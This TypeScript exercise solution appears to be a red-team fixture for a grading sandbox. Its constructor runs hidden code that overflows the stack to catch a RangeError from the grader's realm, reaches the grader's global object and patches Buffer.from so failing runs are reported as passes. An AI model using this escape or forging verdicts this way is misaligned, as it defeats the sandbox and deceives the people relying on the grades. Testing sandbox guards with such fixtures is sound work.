// exercise: 06-asynchronous-iterator
// Attack: near the end of the stack, a call that enters a function of the grader's realm fails
// there, and V8 makes that RangeError ("Maximum call stack size exceeded") in the grader's realm.
// The suite's log callback calls Date.now(), which under fake timers is jest's (the grader's
// realm). So: recurse until the stack is nearly full, call options.log there, and keep any
// RangeError that is not this realm's: its constructor's constructor is the grader's Function.
// Built on test/attacks/_wrong/06 (main ignores its log option).
// (Against the engine before its guards this did not get a foreign error either: whether one
// comes depends on frame sizes. test/sandbox-reach.test.ts checks the guards without that luck.)
// Success: the grader's global, and with it every verdict line the channel writes.
declare const require: any;
function forgeVerdicts(G: any): void {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}
let foreign: any;
const isForeign = (e: any) => e !== null && typeof e === 'object' && !(e instanceof Error) && typeof e.constructor === 'function';
/**
 * Recurses until the stack is full, then, unwinding, makes the call once at each of the last
 * 300 depths. Near the end of the stack anything, even a function call to note what was
 * caught, can fail: what is caught is only stored, and looked at once the stack is free again.
 */
function probe(call: () => void): void {
  const caught: unknown[] = [];
  let n = 0;
  const f = (depth: number): void => {
    try { f(depth + 1); } catch (e) {
      if (n < 300) { n++; try { call(); } catch (e2) { caught[caught.length] = e2; } throw e; }
    }
  };
  try { f(0); } catch { /* the stack overflow itself */ }
  foreign = caught.find(isForeign);
}
function escape(call: () => void): void {
  probe(call);
  if (!foreign) return;
  try {
    const G = foreign.constructor.constructor('return globalThis')();
    if (G && G !== globalThis) { forgeVerdicts(G); console.log('ESCAPED through a foreign RangeError'); }
  } catch { /* the constructor was tamed after all */ }
}

export interface Options {
  delayMs?: number;
  log?: (line: string) => void;
}

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export class AsynchronousIterator implements AsyncIterableIterator<number> {
  private current = 0;
  private finished = false;
  private readonly delayMs: number;
  private readonly log: (line: string) => void;

  constructor(private readonly n: number, options: Options = {}) {
    if (!Number.isInteger(n) || n < 0) throw new RangeError(`bad n: ${n}`);
    this.delayMs = options.delayMs ?? 1000;
    this.log = options.log ?? ((line) => console.log(line));
    if (options.log) escape(() => options.log!('probe'));
  }

  [Symbol.asyncIterator](): this {
    return this;
  }

  async next(): Promise<IteratorResult<number, undefined>> {
    if (this.finished) return { done: true, value: undefined };
    await sleep(this.delayMs);
    this.log(`get next element ${this.current}`);
    this.current += 1;
    if (this.current > this.n) {
      this.finished = true;
      return { done: true, value: undefined };
    }
    return { done: false, value: this.current - 1 };
  }
}

export async function main(n = 3, options?: Options): Promise<void> {
  for await (const i of new AsynchronousIterator(n, options)) {
    console.log(`next element ${i}`);
  }
}
